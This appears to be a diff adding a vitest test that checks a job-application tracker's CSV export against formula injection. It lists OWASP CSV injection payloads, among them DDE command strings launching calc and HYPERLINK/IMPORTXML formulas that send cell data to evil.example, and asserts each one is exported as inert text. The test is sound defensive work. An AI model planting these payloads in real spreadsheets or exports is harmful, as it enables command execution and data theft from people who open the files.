@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { as, signUp, testApp, type TestUser } from './helpers';
 import { readDate, readStatus, suggestMapping } from '../src/modules/applications/csv';
@@ -185,6 +186,64 @@ describe('CSV export', () => {
       jobTitle: 'Job Title',
       status: 'Status',
     });
+  });
+});
+
+/** OWASP's CSV injection payloads, with the multi-line and padded forms spreadsheets still run. */
+const OWASP_PAYLOADS = [
+  '=1+1',
+  '=1+1\nsecond line',
+  '=1+1\r\n',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"Error: click to fix")',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '"=1+1"',
+  "'=1+1",
+  '\n=1+1',
+  '\uFF1D1+1',
+  "-2+3+cmd|' /C calc'!E2",
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
+];
+
+describe('CSV export against formula injection', () => {
+  it('neutralises every OWASP payload in every column, multi-line cells included', async () => {
+    const u = await signUp(ctx.app);
+    for (const [i, payload] of OWASP_PAYLOADS.entries()) {
+      const res = await post(u, '/api/applications', {
+        jobTitle: `Role ${i}`,
+        company: payload.trim() || `Company ${i}`,
+        notes: payload,
+        location: payload.trim() || 'Remote',
+        status: 'applied',
+        applicationDate: '2025-02-03',
+      });
+      expect(res.statusCode, `${JSON.stringify(payload)}: ${res.body}`).toBe(200);
+    }
+    const csv = (await as(ctx.app, u)({ method: 'GET', url: '/api/applications/export' })).body;
+    const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
+    const live = data
+      .slice(1)
+      .flat()
+      // A leading apostrophe makes a cell text; anything else that starts like a formula is live.
+      .filter(
+        (cell) =>
+          !cell.startsWith("'") && /^[\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(cell),
+      );
+    expect(live).toEqual([]);
+    // Every payload is still there, as text, and reads back as written.
+    const list = await as(ctx.app, u)({ method: 'GET', url: '/api/applications' });
+    const stored = (list.json() as { notes: string }[]).map((a) => a.notes).sort();
+    const exported = data.slice(1).map((row) => row[10]!);
+    expect(exported.every((cell) => cell.startsWith("'"))).toBe(true);
+    expect(exported.map((cell) => cell.slice(1)).sort()).toEqual(stored);
+    const round = (await preview(u, { csv })).json() as { counts: { duplicate: number } };
+    expect(round.counts.duplicate).toBe(OWASP_PAYLOADS.length);
   });
 });
 
